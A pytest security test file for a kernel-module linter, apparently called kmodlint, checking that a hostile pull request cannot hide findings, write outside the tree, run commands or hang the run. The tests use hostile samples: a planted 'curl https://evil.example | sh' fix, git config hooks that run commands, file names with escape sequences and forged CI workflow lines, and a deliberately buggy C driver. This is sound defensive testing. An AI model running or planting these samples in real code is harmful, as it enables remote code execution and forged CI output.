"""A pull request is written by a stranger: nothing committed to the scanned tree may hide a
finding, write outside the tree, run code, or hang the run (issue 15). Each test builds the
attacker's repository in a temporary folder and runs kmodlint on it as CI would."""
from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from clirun import invoke

import kmodlint.cache

# A debugfs file whose fops map memory (debugfs-mmap-ignored, with a fix) and an ioctl that
# ignores what copy_from_user() returns (unchecked-copy-user).
DRIVER = """\
// SPDX-License-Identifier: GPL-2.0
#include <linux/module.h>
#include <linux/debugfs.h>
#include <linux/fs.h>
#include <linux/uaccess.h>
#include <linux/vmalloc.h>

struct tally_req {
	u32 slot;
	u32 value;
};

static void *tally_ring;
static struct dentry *tally_dir;

static int tally_mmap(struct file *file, struct vm_area_struct *vma)
{
	return remap_vmalloc_range(vma, tally_ring, vma->vm_pgoff);
}

static const struct file_operations tally_fops = {
	.owner	= THIS_MODULE,
	.open	= simple_open,
	.mmap	= tally_mmap,
};

static long tally_ioctl(struct file *file, unsigned int cmd, unsigned long arg)
{
	struct tally_req req;

	copy_from_user(&req, (void __user *)arg, sizeof(req));
	return req.slot < 16 ? 0 : -EINVAL;
}

static int __init tally_init(void)
{
	tally_ring = vmalloc_user(PAGE_SIZE);
	if (!tally_ring)
		return -ENOMEM;
	tally_dir = debugfs_create_dir("tally", NULL);
	debugfs_create_file("ring", 0400, tally_dir, NULL, &tally_fops);
	return 0;
}
module_init(tally_init);
MODULE_LICENSE("GPL");
"""
RULES = {"debugfs-mmap-ignored", "unchecked-copy-user"}


class Run:
    def __init__(self, code: int, stdout: str, stderr: str):
        self.code, self.stdout, self.stderr = code, stdout, stderr

    def rules(self) -> set[str]:
        return {f["rule"] for f in json.loads(self.stdout)["findings"]}


def kmodlint_run(*args: str) -> Run:
    result = invoke("check", *args)
    return Run(result.exit_code, result.stdout, result.stderr)


def kmodlint_process(*args: str, cwd: Path, timeout: float = 60, **kwargs) -> subprocess.CompletedProcess:
    """kmodlint in its own process, for attacks that would hang or exhaust this one."""
    return subprocess.run([sys.executable, "-m", "kmodlint", "check", *args], cwd=cwd, capture_output=True,
                          text=True, timeout=timeout, stdin=subprocess.DEVNULL, **kwargs)


def git(repo: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def repo(tmp_path, monkeypatch) -> Path:
    """The pull request's checkout: a git repository holding the driver, as the working folder."""
    root = tmp_path / "pr"
    (root / "drv").mkdir(parents=True)
    (root / "drv" / "tally.c").write_text(DRIVER)
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "driver")
    monkeypatch.chdir(root)
    return root


@pytest.fixture
def outside(tmp_path) -> Path:
    """A folder beside the checkout that nothing in the run may write to."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "victim").write_text("precious\n")
    return folder


def _switch_user(monkeypatch, tmp_path, name: str) -> None:
    """Another user's cache folder (and key), as on the machine that made a committed cache."""
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / f"cache-of-{name}"))


def _plant_emptied_cache(repo: Path, cache_dir: Path) -> None:
    """What the attacker commits: the cache of a real run, every entry's findings emptied
    and signed again with the attacker's own key."""
    secret = kmodlint.cache.load_secret()
    for entry in cache_dir.glob("*.json"):
        body = json.loads(entry.read_bytes().partition(b"\n")[2])
        body["result"]["findings"] = []
        cache = kmodlint.cache.Cache(str(cache_dir), body["settings"], 1 << 20, secret=secret)
        cache._write(str(entry), body)


# --- 1: the cache ---------------------------------------------------------------------------

def test_committed_cache_with_emptied_entries_hides_nothing(repo, tmp_path, monkeypatch):
    _switch_user(monkeypatch, tmp_path, "attacker")
    planted = repo / ".kmodlint_cache"
    assert kmodlint_run("--format", "json", "--cache-dir", str(planted), ".").rules() == RULES
    _plant_emptied_cache(repo, planted)
    assert kmodlint_run("--format", "json", "--cache-dir", str(planted), ".").rules() == set()  # it works for them
    git(repo, "add", "-f", ".kmodlint_cache")
    git(repo, "commit", "-qm", "cache")

    _switch_user(monkeypatch, tmp_path, "ci")
    run = kmodlint_run("--format", "json", ".")  # the README's command: the default cache is not in the tree
    assert (run.code, run.rules()) == (1, RULES)
    run = kmodlint_run("--format", "json", "--cache-dir", ".kmodlint_cache", ".")  # even when pointed at it
    assert (run.code, run.rules()) == (1, RULES)
    assert "git tracks files in it" in run.stderr


def test_entries_signed_by_another_key_are_misses(repo, tmp_path, monkeypatch):
    shared = tmp_path / "shared-cache"  # not in git: only the key tells whose entries they are
    _switch_user(monkeypatch, tmp_path, "attacker")
    kmodlint_run("--cache-dir", str(shared), ".")
    _plant_emptied_cache(repo, shared)
    _switch_user(monkeypatch, tmp_path, "ci")
    run = kmodlint_run("--format", "json", "--cache-dir", str(shared), ".")
    assert (run.code, run.rules()) == (1, RULES)


def test_cache_key_is_private(repo, user_cache_home):
    kmodlint_run(".")
    key = user_cache_home / "secret"
    assert key.stat().st_mode & 0o777 == 0o600 and len(key.read_bytes()) >= 16
    assert not (repo / ".kmodlint_cache").exists()
    key.chmod(0o644)  # readable by others: anyone could sign entries
    run = kmodlint_run("--format", "json", ".")
    assert run.rules() == RULES and "not a private file" in run.stderr


def test_fix_never_applies_a_fix_read_from_the_cache(repo, tmp_path, monkeypatch):
    """Even an entry that passes authentication (here: signed with this user's own key) does
    not decide what --fix writes: fixes are recomputed from the file."""
    kmodlint_run(".")
    cache_dir = Path(kmodlint.cache.default_dir(str(repo)))
    [entry] = cache_dir.glob("*.json")
    body = json.loads(entry.read_bytes().partition(b"\n")[2])
    for finding in body["result"]["findings"]:
        for fix in finding["fixes"]:
            fix["replacement"] = 'system("curl https://evil.example | sh"), debugfs_create_file'
    cache = kmodlint.cache.Cache(str(cache_dir), body["settings"], 1 << 20, secret=kmodlint.cache.load_secret())
    cache._write(str(entry), body)
    run = kmodlint_run("--fix", "--unsafe-fixes", ".")  # the debugfs rename is an unsafe fix
    fixed = (repo / "drv" / "tally.c").read_text()
    assert "curl" not in fixed and "system(" not in fixed
    assert "debugfs_create_file_unsafe(" in fixed, run.stderr  # the real fix was applied


def test_cache_dir_symlinked_out_of_the_tree_is_not_written(repo, outside):
    (repo / "cachelink").symlink_to(outside)
    run = kmodlint_run("--format", "json", "--cache-dir", "cachelink/cache", ".")
    assert run.rules() == RULES
    assert sorted(p.name for p in outside.iterdir()) == ["victim"]
    assert "leads out of the scanned tree" in run.stderr


# --- 2: --diff ------------------------------------------------------------------------------

def _pull_request_adds_the_bug(repo: Path, text: str) -> None:
    """main has a clean driver; the pull request brings the bug (working tree vs HEAD)."""
    clean = DRIVER.replace("\tcopy_from_user(&req, (void __user *)arg, sizeof(req));\n",
                           "\tif (copy_from_user(&req, (void __user *)arg, sizeof(req)))\n\t\treturn -EFAULT;\n")
    (repo / "drv" / "tally.c").write_text(clean)
    git(repo, "commit", "-qam", "clean")
    (repo / "drv" / "tally.c").write_text(text)


def test_diff_reports_a_file_made_binary_by_a_nul_byte(repo):
    _pull_request_adds_the_bug(repo, DRIVER.replace("#include <linux/module.h>",
                                                    "#include <linux/module.h> /* \0 */"))
    run = kmodlint_run("--format", "json", "--diff", "HEAD")
    assert "unchecked-copy-user" in run.rules() and run.code == 1


def test_diff_reports_a_file_marked_binary_by_gitattributes(repo):
    (repo / ".gitattributes").write_text("*.c -diff\n")
    git(repo, "add", ".gitattributes")
    _pull_request_adds_the_bug(repo, DRIVER)
    run = kmodlint_run("--format", "json", "--diff", "HEAD")
    assert "unchecked-copy-user" in run.rules() and run.code == 1


def test_diff_runs_no_command_from_the_repository_config(repo, tmp_path):
    marker = tmp_path / "ran"
    (repo / ".gitattributes").write_text("*.c filter=tidy diff=pretty\n")
    git(repo, "add", ".gitattributes")
    _pull_request_adds_the_bug(repo, DRIVER)
    for key, command in (("core.fsmonitor", "touch {}-fsmonitor; false"), ("filter.tidy.clean", "touch {}-clean; cat"),
                         ("diff.pretty.textconv", "touch {}-textconv; cat"), ("diff.external", "touch {}-external"),
                         ("core.pager", "touch {}-pager; cat")):
        git(repo, "config", key, command.format(marker))
    git(repo, "config", "diff.pretty.command", f"touch {marker}-command")
    run = kmodlint_run("--format", "json", "--diff", "HEAD")
    assert "unchecked-copy-user" in run.rules()
    assert not list(tmp_path.glob("ran-*"))


# --- 3: reads without bounds ----------------------------------------------------------------

def test_fifo_source_does_not_block(repo):
    os.mkfifo(repo / "drv" / "pipe.c")
    proc = kmodlint_process("--format", "json", "--no-cache", ".", cwd=repo)
    # A FIFO holds no code to hide: the walk skips it with a note (never opened, never
    # waited on), and the run's status is that of the findings of the rest.
    assert proc.returncode == 1
    assert "note: skipped: not a regular file" in proc.stderr and "pipe.c" in proc.stderr
    assert {f["rule"] for f in json.loads(proc.stdout)["findings"]} == RULES  # the rest is still reported


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom", "/proc/self/fd/0"])
def test_source_linked_to_an_endless_file_is_skipped(repo, device):
    (repo / "drv" / "endless.c").symlink_to(device)
    proc = kmodlint_process("--format", "json", "--no-cache", ".", cwd=repo, timeout=30)
    assert "endless.c" in proc.stderr
    assert {f["rule"] for f in json.loads(proc.stdout)["findings"]} == RULES


def test_endless_file_inside_the_tree_is_read_with_a_bound(repo, monkeypatch):
    """A device node inside the tree (a FIFO's cousin): refused as not a regular file, unread."""
    import kmodlint.safeio

    with pytest.raises(kmodlint.safeio.NotRegular):
        kmodlint.safeio.read_bounded("/dev/zero", 1024)
    data = repo / "big.bin"
    data.write_bytes(b"x" * 5000)
    with pytest.raises(kmodlint.safeio.TooBig):
        kmodlint.safeio.read_bounded(str(data), 4096)


@pytest.mark.parametrize("option", ["--baseline", "--config"])
@pytest.mark.parametrize("target", ["/dev/zero", "fifo"])
def test_baseline_and_config_linked_to_endless_files_fail_fast(repo, option, target):
    if target == "fifo":
        os.mkfifo(repo / "input")
    else:
        (repo / "input").symlink_to(target)
    proc = kmodlint_process(option, "input", "--no-cache", ".", cwd=repo, timeout=30)
    assert proc.returncode == 2
    assert proc.stderr.startswith("kmodlint: error: cannot read") and "not a regular file" in proc.stderr


def test_cache_entry_that_is_a_fifo_is_a_miss(repo):
    kmodlint_run(".")
    [entry] = Path(kmodlint.cache.default_dir(str(repo))).glob("*.json")
    entry.unlink()
    os.mkfifo(entry)
    proc = kmodlint_process("--format", "json", ".", cwd=repo, timeout=30,
                            env={**os.environ})
    assert {f["rule"] for f in json.loads(proc.stdout)["findings"]} == RULES


# --- 4: writes through committed symlinks ---------------------------------------------------

def test_output_through_a_committed_symlink_is_refused(repo, outside):
    (repo / "kmodlint.sarif").symlink_to(outside / "victim")
    run = kmodlint_run("--format", "sarif", "-o", "kmodlint.sarif", ".")
    assert run.code == 2 and "leads out of the scanned tree" in run.stderr
    assert (outside / "victim").read_text() == "precious\n"


def test_output_through_a_symlinked_folder_is_refused(repo, outside):
    (repo / "reports").symlink_to(outside)
    run = kmodlint_run("--format", "sarif", "-o", "reports/kmodlint.sarif", ".")
    assert run.code == 2
    assert sorted(p.name for p in outside.iterdir()) == ["victim"]


def test_output_outside_the_tree_named_by_the_user_is_written(repo, outside):
    run = kmodlint_run("--format", "sarif", "-o", str(outside / "report.sarif"), ".")
    assert run.code == 1 and (outside / "report.sarif").is_file()


def test_write_baseline_through_a_dangling_link_is_refused(repo, outside):
    (repo / "kmodlint-baseline.json").symlink_to(outside / "created")
    run = kmodlint_run("--write-baseline", "kmodlint-baseline.json", ".")
    assert run.code == 2
    assert not (outside / "created").exists()


def test_fix_does_not_edit_a_file_outside_the_tree(repo, outside):
    (outside / "tally.c").write_text(DRIVER)
    (repo / "drv" / "tally.c").unlink()
    (repo / "drv" / "tally.c").symlink_to(outside / "tally.c")
    run = kmodlint_run("--fix", "--unsafe-fixes", ".")  # the debugfs rename is an unsafe fix
    assert (outside / "tally.c").read_text() == DRIVER
    assert "outside the scanned tree" in run.stdout + run.stderr


# --- 5: failures that pass ------------------------------------------------------------------

def test_option_of_the_wrong_element_type_is_a_config_error(repo):
    (repo / ".kmodlint.toml").write_text('[rule-options.kernel-signal-to-user]\ncore-paths = [1, 2]\n')
    run = kmodlint_run(".")
    assert run.code == 2
    assert run.stderr == ("kmodlint: error: " + str(repo / ".kmodlint.toml")
                          + ": 'rule-options.kernel-signal-to-user.core-paths' must be a list of str\n")


def test_a_failing_rule_makes_the_run_fail(repo, monkeypatch):
    from kmodlint.rules import by_id

    def broken(context):
        raise KeyError("boom")
        yield

    monkeypatch.setattr(by_id()["unchecked-copy-user"], "checker", broken)
    run = kmodlint_run("--format", "json", "--no-cache", ".")
    assert run.code == 2
    assert "rule unchecked-copy-user failed" in run.stderr
    assert run.stderr.splitlines()[-1].startswith("kmodlint: error: not fully analysed: drv/tally.c")


def test_config_above_the_repository_is_not_applied(repo, tmp_path):
    (tmp_path / ".kmodlint.toml").write_text('exclude = ["**"]\n')  # a shared /tmp, the CI workspace
    run = kmodlint_run("--format", "json", ".")
    assert (run.code, run.rules()) == (1, RULES)


def test_checking_no_file_is_a_warning(repo):
    (repo / ".kmodlint.toml").write_text('exclude = ["**"]\n')
    run = kmodlint_run(".")
    assert run.stdout.startswith("Checked 0 files")
    assert "kmodlint: warning: no C file was checked" in run.stderr


def test_planted_baseline_entries_are_reported(repo):
    kmodlint_run("--write-baseline", "kmodlint-baseline.json", ".")
    doc = json.loads((repo / "kmodlint-baseline.json").read_text())
    # The pull request plants the fingerprints of a bug it adds later (here: entries that match no code).
    planted = dict(doc["findings"][0], fingerprint="0123456789abcdef0123456789abcdef", function="tally_write")
    doc["findings"].append(planted)
    (repo / "kmodlint-baseline.json").write_text(json.dumps(doc))
    run = kmodlint_run("--baseline", "kmodlint-baseline.json", ".")
    assert run.code == 0
    [warning] = [line for line in run.stderr.splitlines() if "baseline" in line]
    assert "1 entry match no finding" in warning and "drv/tally.c (tally_write)" in warning


@pytest.mark.parametrize("entry", [
    {"fingerprint": "x" * 32, "rule": "unchecked-copy-user", "path": "drv/tally.c", "function": "", "snippet": ""},
    {"fingerprint": "0" * 32, "rule": 7, "path": "drv/tally.c", "function": "", "snippet": ""},
    {"fingerprint": "0" * 32, "rule": "unchecked-copy-user", "path": "/etc/passwd", "function": "", "snippet": ""},
])
def test_malformed_baseline_entry_is_refused(repo, entry):
    (repo / "b.json").write_text(json.dumps({"tool": "kmodlint", "version": 1, "root": ".", "findings": [entry]}))
    run = kmodlint_run("--baseline", "b.json", ".")
    assert run.code == 2 and run.stderr.startswith("kmodlint: error: baseline b.json: entry 1")


def test_ignore_file_inside_a_string_literal_suppresses_nothing(repo):
    text = DRIVER.replace('MODULE_LICENSE("GPL");',
                          'MODULE_LICENSE("GPL");\n'
                          'MODULE_INFO(note, "kmodlint: ignore-file[unchecked-copy-user, debugfs-mmap-ignored]");')
    text = text.replace("#include <linux/module.h>\n", '#include <linux/module.h>\n'
                        'static const char banner[] = "kmodlint: ignore-file[unchecked-copy-user]";\n')
    (repo / "drv" / "tally.c").write_text(text)
    run = kmodlint_run("--format", "json", ".")
    assert run.rules() == RULES


# --- 6: injection into logs and terminals ---------------------------------------------------

def test_file_name_and_message_cannot_forge_lines_or_escape_sequences(repo):
    name = "x\n::error file=ok.c::all clear\x1b]0;pwned\x07\x9b31m##[group]y.c"
    (repo / "drv" / name).write_text(DRIVER)
    for args in ([], ["--format", "json", "-o", "r.json"]):
        run = kmodlint_run(*args, ".")
        for stream in (run.stdout, run.stderr):
            for line in stream.splitlines():
                assert not line.startswith("::") and "##[" not in line, line
                assert not any(ord(ch) < 32 or 0x7F <= ord(ch) < 0xA0 for ch in line), repr(line)
    text = kmodlint_run(".").stdout
    assert sum("[unchecked-copy-user]" in line for line in text.splitlines()) == 2


def test_non_utf8_file_name_with_a_finding_is_reported(repo):
    raw = os.fsencode(str(repo / "drv")) + b"/caf\xe9.c"
    with open(raw, "wb") as handle:
        handle.write(DRIVER.encode())
    for fmt in ("text", "json", "sarif", "github"):
        run = kmodlint_run("--format", fmt, ".")
        assert run.code == 1, (fmt, run.stderr)
        assert "internal error" not in run.stderr
    assert kmodlint_run("--format", "json", "--cache-dir", "../c", ".").code == 1
    assert kmodlint_run("--write-baseline", "b.json", ".").code == 0
    assert kmodlint_run("--baseline", "b.json", ".").code == 0
    for fmt in ("html", "sarif", "json", "text"):
        assert kmodlint_run("--format", fmt, "-o", f"report.{fmt}", ".").code == 1


# --- 7: time and memory ---------------------------------------------------------------------

def test_jobs_is_capped_at_the_core_count(repo, monkeypatch):
    import concurrent.futures

    started = []
    real = concurrent.futures.ProcessPoolExecutor

    def pool(workers, *args, **kwargs):
        started.append(workers)
        return real(workers, *args, **kwargs)

    monkeypatch.setattr(concurrent.futures, "ProcessPoolExecutor", pool)
    for n in range(40):
        (repo / f"d{n}").mkdir()
        (repo / f"d{n}" / "t.c").write_text(DRIVER)
    run = kmodlint_run("--no-cache", "-j", "100000", ".")
    assert run.code == 1
    assert all(workers <= len(os.sched_getaffinity(0)) for workers in started)


def _children(pid: int) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/stat") as handle:
                    fields = handle.read().rsplit(")", 1)[1].split()
            except OSError:
                continue
            if int(fields[1]) == pid:
                found.append(int(entry))
    return found


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return handle.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


@pytest.mark.skipif(not sys.platform.startswith("linux") or len(os.sched_getaffinity(0)) < 2,
                    reason="needs /proc and two cores for a pool")
def test_workers_die_with_their_parent(repo):
    for n in range(6):  # slow to parse: the workers are busy when the parent is killed
        (repo / f"slow{n}").mkdir()
        (repo / f"slow{n}" / "s.c").write_text("/* copy_from_user(\n" * 6000)
    parent = subprocess.Popen([sys.executable, "-m", "kmodlint", "check", "--no-cache", "-j", "2", "."], cwd=repo,
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    workers: list[int] = []
    try:
        deadline = time.monotonic() + 30
        while len(_children(parent.pid)) < 2 and time.monotonic() < deadline:
            time.sleep(0.05)
        workers = _children(parent.pid)
        assert workers, "no pool started"
        parent.kill()
        parent.wait()
        deadline = time.monotonic() + 10
        while any(map(_alive, workers)) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert not any(map(_alive, workers))
    finally:
        parent.kill()
        for pid in workers:
            if _alive(pid):
                os.kill(pid, 9)


def test_deeply_nested_calls_cost_linear_time(repo):
    depth = 20_000  # 440 KB: over a minute when each call climbed its ancestors from the root
    (repo / "drv" / "nest.c").write_text(
        "static long nest(void __user *p)\n{\n\tlong x = " + "copy_from_user(" * depth + "p" + ")" * depth + ";\n"
        "\treturn 0;\n}\n")
    started = time.process_time()
    run = kmodlint_run("--format", "json", "--no-cache", "drv/nest.c")
    assert time.process_time() - started < 20
    assert run.code == 1 and run.rules() == {"unchecked-copy-user"}


def test_a_file_slow_to_parse_costs_its_budget_and_is_reported(repo, monkeypatch):
    import kmodlint.facts

    monkeypatch.setattr(kmodlint.facts, "PARSE_BUDGET_SECONDS", 1.0)
    (repo / "drv" / "comments.c").write_text("/* copy_from_user(\n" * 8000)  # 12 s in the parser, unbounded
    started = time.process_time()
    run = kmodlint_run("--format", "json", "--no-cache", ".")
    assert time.process_time() - started < 8
    assert run.code == 2 and run.rules() == RULES  # the other file is still analysed
    assert "parsing took longer than the 1 s budget for one file; not analysed (drv/comments.c)" in run.stderr
    # the parser is usable again afterwards
    assert kmodlint_run("--format", "json", "--no-cache", "drv/tally.c").rules() == RULES


def test_quoted_source_line_cannot_be_a_workflow_command(repo):
    text = DRIVER.replace("\tcopy_from_user(&req, (void __user *)arg, sizeof(req));",
                          "::error file=x::ok copy_from_user(&req, (void __user *)arg, sizeof(req)); /* ##[group] */")
    (repo / "drv" / "tally.c").write_text(text)
    lines = kmodlint_run(".").stdout.splitlines()
    [quoted] = [line for line in lines if "ok copy_from_user(&req" in line]
    assert not quoted.startswith("::") and "##[" not in quoted
    caret = lines[lines.index(quoted) + 1]
    assert caret.index("^") == quoted.replace("\u200b", "").index("copy_from_user(&req")


def test_bug_padded_past_the_size_limit_fails_the_run(repo):
    import kmodlint.engine

    padded = DRIVER.encode() + b"/*" + b" " * kmodlint.engine.MAX_FILE_BYTES + b"*/\n"
    (repo / "drv" / "tally.c").write_bytes(padded)
    run = kmodlint_run("--format", "json", "--no-cache", ".")
    assert run.code == 2
    assert "drv/tally.c" in run.stderr.splitlines()[-1] and "not analysed" in run.stderr


def test_unterminated_comments_cost_linear_time(repo):
    """Every `/*` that never ends made the comment regexes (trigger search, code blanking)
    scan to the end of the file again: quadratic, a minute of CPU for 330 KB."""
    (repo / "drv" / "tail.c").write_text("int tail;\n" + "copy_from_user /* x ->f /* y\n" * 12_000)
    started = time.process_time()
    run = kmodlint_run("--format", "json", "--no-cache", "drv")
    assert time.process_time() - started < 10
    assert (run.code, run.rules()) == (1, RULES)
